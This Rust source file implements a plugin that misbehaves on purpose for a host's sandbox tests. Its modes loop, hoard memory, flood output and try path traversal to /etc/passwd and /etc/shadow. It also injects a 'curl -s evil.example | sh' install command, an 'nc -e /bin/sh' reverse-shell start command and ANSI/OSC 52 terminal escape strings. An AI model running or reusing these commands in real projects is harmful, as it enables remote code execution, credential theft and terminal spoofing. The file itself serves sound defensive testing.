//! A plugin that misbehaves on purpose, for the host's sandbox tests
//! (`tests/plugin_hostile.rs`). What it does is read from the project's `hostile.txt`,
//! so one component serves every test.

use std::hint::black_box;

use kyozo_detector_sdk::{
    Detection, Metadata, Plugin, Project, ReadError, Sourced, export_detector,
};

struct Hostile;

impl Plugin for Hostile {
    fn metadata() -> Metadata {
        Metadata::new("hostile", "Misbehaves on purpose", "0.1.0").interested_in(["hostile.txt"])
    }

    fn detect(project: &Project) -> Result<Vec<Detection>, String> {
        let mode = project.read("hostile.txt").map_err(|e| e.to_string())?;
        let ok = || {
            Ok(vec![
                Detection::service("", "hostile", 0.5).evidence("hostile.txt", "asked to behave"),
            ])
        };
        match mode.trim() {
            "ok" => ok(),
            "loop" => loop {
                black_box(0u64);
            },
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(black_box(vec![7u8; 1 << 20]));
                }
            }
            "panic" => panic!("the hostile plugin panics on purpose"),
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(3600));
                ok()
            }
            "many-evidence" => {
                let mut d = Detection::service("", "hostile", 0.5);
                for _ in 0..100_000 {
                    d = d.evidence("", "");
                }
                Ok(vec![d])
            }
            "error" => Err("the hostile plugin fails on purpose".into()),
            "escape" => {
                // Every attempt is reported as evidence of hostile.txt (the only file it
                // may cite): "path → what the host answered".
                let mut d = Detection::service("", "hostile", 0.5);
                for path in [
                    "../outside.txt",
                    "/etc/passwd",
                    "link/secret.txt",
                    "./../outside.txt",
                    "sub/../../outside.txt",
                    "outlink",
                ] {
                    let answer = match project.read(path) {
                        Ok(text) => format!("read {} bytes: {}", text.len(), text.trim()),
                        Err(e) => format!("refused: {e}"),
                    };
                    d = d.evidence("hostile.txt", format!("{path} → {answer}"));
                }
                for glob in ["../*", "/etc/*", "link/**", "**/secret.txt"] {
                    let files = project.files(glob);
                    d = d.evidence("hostile.txt", format!("{glob} → listed {files:?}"));
                }
                // WASI: nothing is granted, so std's file, env and clock calls find nothing.
                let fs = std::fs::read_to_string("/etc/passwd").map(|t| t.len());
                d = d.evidence("hostile.txt", format!("wasi:filesystem → {fs:?}"));
                let env: Vec<(String, String)> = std::env::vars().collect();
                d = d.evidence("hostile.txt", format!("wasi:environment → {env:?}"));
                let net = std::net::TcpStream::connect("127.0.0.1:80").map(|_| ());
                d = d.evidence(
                    "hostile.txt",
                    format!("wasi:sockets → {:?}", net.map_err(|e| e.kind())),
                );
                Ok(vec![d])
            }
            "read-flood" => {
                let mut refused = 0u64;
                loop {
                    match project.read("hostile.txt") {
                        Ok(_) => {}
                        Err(ReadError::BudgetExhausted) => refused += 1,
                        Err(e) => return Err(e.to_string()),
                    }
                    black_box(refused);
                }
            }
            "list-flood" => loop {
                black_box(project.files("**"));
            },
            "log-flood" => {
                let line = "x".repeat(10_000);
                for _ in 0..5_000 {
                    project.log(&line);
                }
                ok()
            }
            "stdout" => {
                println!("hello from the plugin's stdout");
                eprintln!("hello from the plugin's stderr");
                ok()
            }
            "nan" => Ok(vec![Detection::service("", "hostile", f64::NAN)]),
            "over" => Ok(vec![Detection::service("", "hostile", 1.5)]),
            "huge-string" => Ok(vec![Detection::service("", &"h".repeat(10 << 20), 0.5)]),
            "many" => Ok((0..100_000)
                .map(|_| Detection::service("", "hostile", 0.5))
                .collect()),
            "outside" => Ok(vec![Detection::service("../elsewhere", "hostile", 0.5)]),
            // Claims the root as the built-in's own stack, barely sure, with commands of
            // its own "read" from a file (not defaults), a port and an env var.
            "claim" => Ok(vec![
                Detection::service("", "node", 0.05)
                    .evidence("hostile.txt", "asked to claim")
                    .install(Sourced::new("curl -s evil.example | sh", "package.json"))
                    .build(Sourced::new("true", "package.json"))
                    .start(Sourced::new(
                        "nc -e /bin/sh evil.example 4444",
                        "package.json",
                    ))
                    .framework(Sourced::new("evilframework", "package.json"))
                    .package_manager(Sourced::new("evilpm", "package.json"))
                    .runtime_version(Sourced::new("6.6.6", "package.json"))
                    .port(6666, "package.json"),
            ]),
            // Claims a folder no built-in claims (`db/`) under the name a compose
            // service of the project has (`db`).
            "claim-db" => Ok(vec![
                Detection::service("db", "sqlmigrate", 0.9)
                    .evidence("hostile.txt", "asked to claim db"),
            ]),
            // Claims the root as another stack, very sure.
            "claim-language" => Ok(vec![
                Detection::service("", "python", 0.99)
                    .evidence("hostile.txt", "asked to claim")
                    .start(Sourced::new("python evil.py", "hostile.txt")),
            ]),
            // Evidence naming files it was never handed: absent, out of the root, and a
            // real file it never listed or read.
            "lying-evidence" => Ok(vec![
                Detection::service("", "hostile", 0.5)
                    .evidence("hostile.txt", "read, so it may be cited")
                    .evidence("does-not-exist.txt", "a file that is not there")
                    .evidence("../../etc/passwd", "a file out of the root")
                    .evidence("/etc/shadow", "an absolute path")
                    .evidence("secret.txt", "a real file it never read or listed"),
            ]),
            // A thousand rival claims of the root, each with long evidence (3 MB in all,
            // under the 4 MiB result cap).
            "rival-flood" => {
                let reason = "r".repeat(3000);
                Ok((0..1000)
                    .map(|i| {
                        Detection::service("", &format!("stack{i}"), 0.9)
                            .evidence("hostile.txt", reason.clone())
                    })
                    .collect())
            }
            // A hundred claims of the root, each with 200 distinct pieces of evidence
            // (2 MB in all, under the result cap).
            "evidence-flood" => Ok((0..100)
                .map(|i| {
                    let mut d = Detection::service("", "hostile", 0.5);
                    for j in 0..200 {
                        d = d.evidence("hostile.txt", format!("{i}-{j} {}", "e".repeat(90)));
                    }
                    d
                })
                .collect()),
            // A thousand folders that do not exist, each a long name: as many warnings.
            "warning-flood" => Ok((0..1000)
                .map(|i| {
                    Detection::service(&format!("{i}{}", "w".repeat(4000)), "hostile", 0.5)
                        .evidence("hostile.txt", "asked to flood")
                })
                .collect()),
            // Prints far past the host's stdout and stderr caps, then answers.
            "big-println" => {
                let line = "p".repeat(1000);
                for _ in 0..300 {
                    println!("{line}");
                    eprintln!("{line}");
                }
                ok()
            }
            // Strings meant for the user's terminal: an OSC 52 clipboard write, a
            // screen clear, a `\r` that forges a line, a C1 CSI; in its framework, its
            // start command, its evidence and what it logs. (A stack must be a short
            // lower-case name: the host refuses any other, quoting it escaped.)
            "ansi" => {
                eprintln!("plugin log \x1b]52;c;ZXZpbA==\x07\x1b[2J\rkyozo: all good");
                Ok(vec![
                    Detection::service("", "ansi", 0.9)
                        .framework(Sourced::new("fw\x1b[2J\rkyozo: ok\u{9b}31m", "hostile.txt"))
                        .start(Sourced::new("run \x1b[31mred\x1b[0m", "hostile.txt"))
                        .evidence(
                            "hostile.txt",
                            "reason \x1b]52;c;ZXZpbA==\x07\x1b[2K\rkyozo: fine",
                        ),
                ])
            }
            // A panic whose message carries the same.
            "ansi-panic" => panic!("boom \x1b]52;c;ZXZpbA==\x07\x1b[2J\rkyozo: all good"),
            other => Err(format!("unknown mode {other:?}")),
        }
    }
}

export_detector!(Hostile);
